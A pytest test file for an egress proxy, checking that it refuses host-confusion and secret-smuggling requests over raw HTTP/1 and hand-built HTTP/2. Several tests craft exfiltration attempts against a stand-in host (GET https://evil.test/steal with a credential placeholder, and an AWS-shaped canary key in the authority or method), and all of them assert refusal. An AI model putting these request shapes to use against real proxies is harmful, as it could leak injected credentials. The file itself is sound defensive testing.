"""Request target, authority, Host, SNI and method through the live proxy (issue 17 rows 1, 4,
7 and 18): raw HTTP/1 bytes and hand-built HTTP/2 frames, a shared origin that answers for
every test name (as a CDN or multi-vhost server would), a credential the proxy injects for
one of them. Each test checks what the origin received, what the client received, and that
no canary reached the audit log, the recorded flows or stderr."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from egress.redact import MIN_SECRET_LEN
from tests.conftest import EgressFactory, PolicyWriter
from tests.support.artefacts import assert_nowhere, http_events
from tests.support.origin import Origin, echo
from tests.support.pki import TestPKI
from tests.support.rawhttp import exchange, h2_request, plain_proxy_request

POLICY = """
    version: 1
    hosts:
      allow:
        - hosts: [allowed.test, "*.allowed.test", cred.test]
    credentials:
      - name: cred
        host: cred.test
        header: "Authorization: Bearer {secret}"
        source: {env: BOTTLE_TEST_REAL_TOKEN}
        placeholder: {env: CRED_TOKEN}
"""
# An AWS-shaped access key id: DLP's `aws-access-key-id` rule matches it.
CANARY = "AKIAQ7VXR2LMN9PK4ST8"


@pytest.fixture
def shared_origin(pki: TestPKI) -> Iterator[Origin]:
    """One TLS origin holding a certificate for every name, like a CDN edge."""
    cert = pki.server_cert("shared", ["cred.test", "evil.test", "allowed.test", "*.allowed.test"])
    with Origin(cert, {"/": echo}) as o:
        yield o


@pytest.fixture
def proxy(egress: EgressFactory, write_policy: PolicyWriter, tmp_path: Path) -> Any:
    real = "real-" + secrets.token_urlsafe(24)
    proc: Any = egress(write_policy(POLICY), "--record", str(tmp_path / "flows.mitm"),
                       env={"BOTTLE_TEST_REAL_TOKEN": real})
    proc.real_token = real
    proc.flows = tmp_path / "flows.mitm"
    return proc


def _stop(proc: Any) -> None:
    proc.stop()  # flushes and closes the flow file and the audit log


def test_absolute_form_target_naming_another_host_is_refused(
        proxy: Any, shared_origin: Origin) -> None:
    """17.1: inside a tunnel to cred.test, `GET https://evil.test/steal` with the credential's
    placeholder: a shared origin would route it to evil.test, with the real token added."""
    port = shared_origin.port
    placeholder = proxy.env["CRED_TOKEN"]
    attack = (f"GET https://evil.test:{port}/steal HTTP/1.1\r\nHost: cred.test:{port}\r\n"
              f"Authorization: Bearer {placeholder}\r\nConnection: close\r\n\r\n").encode()
    reply = exchange(proxy, f"cred.test:{port}", attack, sni="cred.test")
    assert reply is not None and reply.status == 403, reply
    assert reply.json()["rule"] == "hosts/authority-mismatch"
    assert (reply.header("x-bottle-block-reason") or "").startswith("hosts/authority-mismatch:")
    assert shared_origin.seen == []

    # The same target without the other host: forwarded, in origin-form, token injected.
    ok = (f"GET https://cred.test:{port}/ok HTTP/1.1\r\nHost: cred.test:{port}\r\n"
          f"Authorization: Bearer {placeholder}\r\nConnection: close\r\n\r\n").encode()
    reply = exchange(proxy, f"cred.test:{port}", ok, sni="cred.test")
    assert reply is not None and reply.status == 200, reply
    seen = shared_origin.seen[-1]
    assert seen.path == "/ok"  # origin-form: the origin never sees an absolute target
    assert seen.headers["Authorization"] == f"Bearer {proxy.real_token}"
    assert proxy.real_token.encode() not in reply.body
    _stop(proxy)
    events = http_events(proxy)
    assert [e["verdict"] for e in events] == ["block", "allow"]
    assert events[0]["findings"][0]["rule"] == "authority-mismatch"
    assert "credentials" not in events[0]  # nothing was injected into the refused request
    assert_nowhere(proxy, [proxy.real_token], [proxy.flows])


def test_secret_in_the_authority_of_an_absolute_target_never_leaves(
        proxy: Any, shared_origin: Origin) -> None:
    """17.4: `GET https://AKIA....evil.test/x` with an allowed Host: refused, and the key is
    judged by DLP like every other location (so it is scrubbed from every artefact)."""
    port = shared_origin.port
    attack = (f"GET https://{CANARY}.evil.test:{port}/x HTTP/1.1\r\nHost: allowed.test:{port}\r\n"
              "Connection: close\r\n\r\n").encode()
    reply = exchange(proxy, f"allowed.test:{port}", attack, sni="allowed.test")
    assert reply is not None and reply.status == 403, reply
    assert reply.json()["rule"] == "hosts/authority-mismatch"
    assert CANARY.encode() not in reply.body
    assert shared_origin.seen == []
    _stop(proxy)
    finding_rules = {f["rule"] for e in http_events(proxy) for f in e["findings"]}
    assert {"authority-mismatch", "aws-access-key-id"} <= finding_rules
    wheres = {f["where"] for e in http_events(proxy) for f in e["findings"]}
    assert "request.authority" in wheres
    assert_nowhere(proxy, [CANARY], [proxy.flows])


def test_secret_in_an_http2_authority_is_refused(proxy: Any, shared_origin: Origin) -> None:
    """17.4 over HTTP/2: an `:authority` that names an allowed wildcard host with the key in
    it, consistent with CONNECT and SNI, is still judged by DLP and refused."""
    port = shared_origin.port
    name = f"{CANARY}.allowed.test"
    reply = h2_request(proxy, f"{name}:{port}", [
        (":method", "GET"), (":scheme", "https"), (":authority", f"{name}:{port}"),
        (":path", "/h2")], sni=name)
    assert reply.status == 403, reply
    assert CANARY.encode() not in reply.body
    assert shared_origin.seen == []
    _stop(proxy)
    assert_nowhere(proxy, [CANARY], [proxy.flows])


def test_http2_authority_or_host_naming_another_host_is_refused(
        proxy: Any, shared_origin: Origin) -> None:
    """17.1 over HTTP/2: `:authority` evil.test in a tunnel to cred.test, and `:authority`
    cred.test with a second, different Host header."""
    port = shared_origin.port
    placeholder = proxy.env["CRED_TOKEN"]
    base = [(":method", "GET"), (":scheme", "https"), (":path", "/steal")]
    auth = ("authorization", f"Bearer {placeholder}")
    other = h2_request(proxy, f"cred.test:{port}",
                       [*base, (":authority", f"evil.test:{port}"), auth], sni="cred.test")
    # the allowlist (evil.test is not allowed) or hostnames' fronting check may see it first
    assert other.status == 403, other
    assert other.headers["x-bottle-block-reason"].split(":")[0] in (
        "hosts/authority-mismatch", "hostnames/domain-fronting", "hosts/host-not-allowed")
    both = h2_request(proxy, f"cred.test:{port}",
                      [*base, (":authority", f"cred.test:{port}"), auth, ("host", f"evil.test:{port}")],
                      sni="cred.test")
    # the HTTP/2 layer itself refuses a Host that differs from :authority (connection error)
    assert both.status in (0, 403) and both.status != 200, both
    assert shared_origin.seen == []
    ok = h2_request(proxy, f"cred.test:{port}", [*base, (":authority", f"cred.test:{port}"), auth],
                    sni="cred.test")
    assert ok.status == 200, ok
    seen = {k.lower(): v for k, v in shared_origin.seen[-1].headers.items()}
    assert seen["authorization"] == f"Bearer {proxy.real_token}"
    _stop(proxy)
    assert_nowhere(proxy, [proxy.real_token], [proxy.flows])


@pytest.mark.parametrize("method", [CANARY, "get", "P0ST", "GET{}", "X" * 21])
def test_a_method_that_is_not_a_method_token_is_refused(
        proxy: Any, shared_origin: Origin, method: str) -> None:
    """17.7: a secret (or anything else) in the method position never leaves, and is kept out
    of the audit log's `method` field and the flow file."""
    port = shared_origin.port
    request = (f"{method} /m HTTP/1.1\r\nHost: allowed.test:{port}\r\n"
               "Connection: close\r\n\r\n").encode()
    reply = exchange(proxy, f"allowed.test:{port}", request, sni="allowed.test")
    assert reply is not None and reply.status == 400, reply
    assert reply.json()["rule"] == "hosts/invalid-method"
    assert method.encode() not in reply.body
    assert shared_origin.seen == []
    _stop(proxy)
    events = http_events(proxy)
    assert len(events) == 1 and events[0]["verdict"] == "block"
    assert events[0]["findings"][0]["rule"] == "invalid-method"
    if len(method) >= MIN_SECRET_LEN:  # long enough to be a secret: scrubbed everywhere
        assert events[0]["method"] != method
        assert_nowhere(proxy, [method], [proxy.flows])


def test_a_secret_http2_method_is_refused(proxy: Any, shared_origin: Origin) -> None:
    """17.7 over HTTP/2: `:method` carrying an access key."""
    port = shared_origin.port
    reply = h2_request(proxy, f"allowed.test:{port}", [
        (":method", CANARY), (":scheme", "https"), (":authority", f"allowed.test:{port}"),
        (":path", "/m")], sni="allowed.test")
    assert reply.status == 400 and b"hosts/invalid-method" in reply.body, reply
    assert CANARY.encode() not in reply.body
    assert shared_origin.seen == []
    _stop(proxy)
    assert_nowhere(proxy, [CANARY], [proxy.flows])


@pytest.mark.parametrize("hosts", [
    ["allowed.test:{port}", "evil.test:{port}"],      # two Host headers
    ["allowed.test:{port}", "allowed.test:{port}"],   # two, even when equal
    ["allowed.test:443@evil.test"],                   # user info
    ["allowed.test:{port}, evil.test"],               # a list
])
def test_ambiguous_host_headers_are_refused(proxy: Any, shared_origin: Origin,
                                            hosts: list[str]) -> None:
    """17.18: duplicate Host headers or a Host that is not one host."""
    port = shared_origin.port
    head = "".join(f"Host: {h.format(port=port)}\r\n" for h in hosts)
    request = f"GET /h HTTP/1.1\r\n{head}Connection: close\r\n\r\n".encode()
    reply = exchange(proxy, f"allowed.test:{port}", request, sni="allowed.test")
    assert reply is not None and reply.status == 400, reply
    assert reply.json()["rule"] == "hosts/ambiguous-host"
    assert shared_origin.seen == []
    _stop(proxy)
    events = http_events(proxy)
    assert events[0]["verdict"] == "block"
    assert events[0]["findings"][0]["rule"] == "ambiguous-host"


def test_ambiguity_is_refused_in_audit_mode_too(
        egress: EgressFactory, write_policy: PolicyWriter, shared_origin: Origin) -> None:
    proc = egress(write_policy("""
        version: 1
        mode: audit
        hosts:
          allow:
            - hosts: [allowed.test]
    """))
    port = shared_origin.port
    request = (f"GET /h HTTP/1.1\r\nHost: allowed.test:{port}\r\nHost: evil.test:{port}\r\n"
               "Connection: close\r\n\r\n").encode()
    reply = exchange(proc, f"allowed.test:{port}", request, sni="allowed.test")
    assert reply is not None and reply.status == 400, reply
    assert shared_origin.seen == []


def test_plain_http_proxy_request_whose_host_header_differs_is_refused(
        egress: EgressFactory, write_policy: PolicyWriter, dns: Any) -> None:
    """A plain-HTTP proxy request `GET http://allowed.test/` with `Host: evil.test`: mitmproxy
    dials allowed.test and would send Host evil.test to it. With `hostnames.fronting: off`
    (which only turns that finding off) it is still refused."""
    with Origin(None, {"/": echo}) as plain:
        proc = egress(write_policy("""
            version: 1
            hosts:
              allow:
                - hosts: ["*"]
            hostnames:
              fronting: off
        """))
        port = plain.port
        bad = plain_proxy_request(proc, (f"GET http://allowed.test:{port}/p HTTP/1.1\r\n"
                                         f"Host: evil.test:{port}\r\nConnection: close\r\n\r\n").encode())
        assert bad is not None and bad.status == 403, bad
        assert bad.json()["rule"] == "hosts/authority-mismatch"
        other_port = plain_proxy_request(proc, (f"GET http://allowed.test:{port}/p HTTP/1.1\r\n"
                                                f"Host: allowed.test:{port + 1}\r\n"
                                                "Connection: close\r\n\r\n").encode())
        assert other_port is not None and other_port.status == 403, other_port
        assert plain.seen == []
        good = plain_proxy_request(proc, (f"GET http://allowed.test:{port}/p HTTP/1.1\r\n"
                                          f"Host: ALLOWED.test.:{port}\r\n"
                                          "Connection: close\r\n\r\n").encode())
        assert good is not None and good.status == 200, good
        assert plain.paths() == ["/p"]
